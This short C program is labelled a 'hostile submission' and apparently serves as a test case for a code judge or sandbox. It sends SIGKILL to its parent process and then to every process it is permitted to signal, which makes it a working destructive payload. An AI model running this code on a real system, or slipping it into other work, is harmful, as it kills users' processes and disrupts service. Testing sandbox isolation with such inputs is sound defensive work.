/* Hostile submission: kills its parent and every process it may signal. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
